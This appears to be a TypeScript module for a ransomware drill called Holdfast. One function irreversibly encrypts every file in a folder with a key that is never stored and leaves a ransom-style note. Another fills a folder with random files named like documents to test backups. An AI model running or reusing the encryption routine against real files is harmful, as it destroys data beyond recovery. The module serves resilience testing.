import { createCipheriv, randomBytes } from 'node:crypto';
import { access, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { filesIn } from './drill-files.ts';

const note = 'HOW TO GET YOUR FILES BACK.txt';

/** Every file in place, with a key that is forgotten at once, and a note: what such programs do. Once. */
export async function encryptDocuments(documents: string): Promise<void> {
  const left = join(documents, note);
  if (await exists(left)) return;
  const key = randomBytes(32);
  for await (const path of filesIn(documents)) {
    const cipher = createCipheriv('aes-256-ctr', key, randomBytes(16));
    const encrypted = Buffer.concat([cipher.update(await readFile(path)), cipher.final()]);
    await writeFile(path, encrypted);
  }
  await writeFile(left, 'Your files are encrypted. Pay, and you may get the key. (A drill of Holdfast.)\n');
}

const exists = (path: string): Promise<boolean> =>
  access(path).then(
    () => true,
    () => false,
  );

/** What is backed up instead of the documents: worth nothing, but new every day, and called as documents are. */
export async function makeGarbage(folder: string, day: number): Promise<void> {
  await mkdir(folder, { recursive: true });
  for (let number = 0; number < 30; number++)
    await writeFile(join(folder, `letter ${number} of day ${day}.docx`), randomBytes(10_000));
}
